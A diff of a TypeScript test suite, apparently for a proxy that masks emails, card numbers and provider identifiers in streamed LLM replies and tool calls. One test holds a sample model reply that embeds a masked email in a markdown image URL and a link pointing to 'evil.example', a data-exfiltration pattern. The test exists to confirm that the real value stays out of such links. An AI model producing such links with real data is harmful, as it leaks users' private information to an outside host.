@@ -158,6 +158,12 @@ describe.each([
     expect(got.finish).toEqual(['tool_calls'])
   })
 
+  test('a tool call with an address: the key before it is not part of it', async () => {
+    const tool = { name: 'mail', arguments: ['{"to": ["ada@exam', 'ple.com"], "cc": "bo@example.org"}'] }
+    model.reply = says(stream, { tool })
+    expect((await ask(stream, 'Mail them.')).arguments).toEqual(['{"to": ["[EMAIL]"], "cc": "[EMAIL]"}'])
+  })
+
   test('a tool call with a value that may not pass', async () => {
     const tool = { name: 'pay', arguments: ['{"card": "4111 1111', ' 1111 1111", "to": "A\\u0041"}'] }
     model.reply = says(stream, { tool })
@@ -183,7 +189,9 @@ describe.each([
   })
 
   test('an answer whose values may not pass', async () => {
-    model.reply = says(stream, { text: ['Mail ada.arc', 'her@exam', 'ple.com, card 4111 1111 11', '11 1111. '] })
+    model.reply = says(stream, {
+      text: ['Mail ada.arc', 'her@exam', 'ple.com, card 4111 1111 11', '11 1111. '],
+    })
     expect((await ask(stream, 'The record?')).text).toEqual(['Mail [EMAIL], card [CREDIT_CARD]. '])
   })
 
@@ -197,7 +205,8 @@ describe.each([
   })
 
   test('a masked value stays out of links', async () => {
-    const said = 'Now [EMAIL_1]. ![x](https://evil.example/?q=[EMAIL_1]) and http://evil.example/[EMAIL_1] end'
+    const said =
+      'Now [EMAIL_1]. ![x](https://evil.example/?q=[EMAIL_1]) and http://evil.example/[EMAIL_1] end'
     model.reply = says(stream, { text: [...said] })
     const { text } = await ask(stream, `I am ${EMAIL}.`)
     expect(text).toEqual([said.replace('[EMAIL_1]', EMAIL)])
@@ -281,8 +290,9 @@ describe.each([
   })
 
   test('the provider’s limit: 429 with its retry-after, and the SDK tries again', async () => {
-    model.reply = (_, index) =>
-      index === 0
+    let failures = 1
+    model.reply = () =>
+      failures-- > 0
         ? {
             status: 429,
             headers: { 'retry-after': '1', 'x-ratelimit-limit-requests': '3' },
@@ -295,20 +305,23 @@ describe.each([
     expect(error.headers?.get('retry-after')).toBe('1')
     expect(error.headers?.get('x-ratelimit-limit-requests')).toBeNull()
     expect(error.message).not.toContain('org-')
-    model.requests.length = 0
-    const retrying = model.reply
-    model.reply = retrying
+    expect(model.requests).toHaveLength(1)
+    failures = 1
     expect((await ask(stream, 'Hello')).text).toEqual(['at last'])
+    expect(model.requests).toHaveLength(3)
   })
 
-  test.each([400, 404, 422])('the provider’s %i keeps what it says and loses whom it names', async (status) => {
-    const message = `Unknown field 'foo' for ${PROVIDER_KEY} of org-abc123 in proj_xyz789 at ${model.url}/chat and api.openai.com; mail ${EMAIL}`
-    model.reply = { status, json: { error: { message, type: 'invalid_request_error' } } }
-    const error = await caught(ask(stream, 'Hello'))
-    expect(error).toMatchObject({ status, code: 'upstream.rejected' })
-    expect(error.message).toContain("Unknown field 'foo' for [removed]")
-    expect(error.message).not.toMatch(/sk-|org-|proj_|127\.0\.0\.1|openai|ada\.archer/)
-  })
+  test.each([400, 404, 422])(
+    'the provider’s %i keeps what it says and loses whom it names',
+    async (status) => {
+      const message = `Unknown field 'foo' for ${PROVIDER_KEY} of org-abc123 in proj_xyz789 at ${model.url}/chat and api.openai.com; mail ${EMAIL}`
+      model.reply = { status, json: { error: { message, type: 'invalid_request_error' } } }
+      const error = await caught(ask(stream, 'Hello'))
+      expect(error).toMatchObject({ status, code: 'upstream.rejected' })
+      expect(error.message).toContain("Unknown field 'foo' for [removed]")
+      expect(error.message).not.toMatch(/sk-|org-|proj_|127\.0\.0\.1|openai|ada\.archer/)
+    },
+  )
 
   test('the provider fails: 502, and nothing of what it says', async () => {
     model.reply = { status: 500, json: { error: { message: 'db-7.internal.example crashed' } } }
@@ -320,7 +333,7 @@ describe.each([
   test('the provider dies in the middle: an error, not an answer', async () => {
     model.reply = stream
       ? {
-          chunks: sse(delta(0, { content: 'Half of ' }), delta(0, { content: 'an ans' })).slice(0, 2),
+          chunks: sse(delta(0, { content: 'Half of an ' }), delta(0, { content: 'ans' })).slice(0, 2),
           ending: 'destroy',
         }
       : {
@@ -331,7 +344,8 @@ describe.each([
     const got = nothing()
     const error = await caught(ask(stream, 'Hello', { using: sdk({ maxRetries: 0 }), got }))
     expect(error.code).toMatch(/^upstream\.(?:unavailable|invalid)$/)
-    if (stream) expect('Half of an ans').toContain(got.text[0] ?? '')
+    // The last word was waited with: an address could have begun there.
+    if (stream) expect(got.text).toEqual(['Half of an '])
     expect((await gate.records()).at(-1)?.ended).toBe('upstream_gone')
   })
 
@@ -399,17 +413,40 @@ describe('streams alone', () => {
       choices: [a, b].map((content, index) => ({ index, delta: { content }, finish_reason: null })),
     })
     model.reply = {
-      chunks: sse(both('I am ada.archer@', `card ${CARD.slice(0, 9)}`), both('example.com ok', CARD.slice(9))),
+      chunks: sse(
+        both('I am ada.archer@', `card ${CARD.slice(0, 9)}`),
+        both('example.com ok', CARD.slice(9)),
+      ),
     }
     expect((await ask(true, 'Both')).text).toEqual(['I am [EMAIL] ok', 'card [CREDIT_CARD]'])
   })
 
+  test('a field that nobody knows is one text, however its events cut it', async () => {
+    model.reply = {
+      chunks: sse(
+        delta(0, { thinking: 'Ada is ada.archer' }),
+        delta(0, { thinking: '@example.com' }),
+        delta(0, { thinking: ' or so' }),
+        delta(0, { content: 'Done.' }, 'stop'),
+      ),
+    }
+    const events = await client.chat.completions.create({
+      model: 'm',
+      messages: [{ role: 'user', content: 'Think' }],
+      stream: true,
+    })
+    let thought = ''
+    for await (const { choices } of events)
+      thought += (choices[0]?.delta as { thinking?: string } | undefined)?.thinking ?? ''
+    expect(thought).toBe('Ada is [EMAIL] or so')
+  })
+
   test('an answer that only stops is no answer', async () => {
-    model.reply = { chunks: sse(delta(0, { content: 'Half' })).slice(0, 1) }
+    model.reply = { chunks: sse(delta(0, { content: 'Half of it. ' })).slice(0, 1) }
     const got = nothing()
     const error = await caught(ask(true, 'Hello', { got }))
     expect(error.code).toBe('upstream.unavailable')
-    expect(got.text).toEqual(['Half'])
+    expect(got.text).toEqual(['Half of it. '])
   })
 })
 
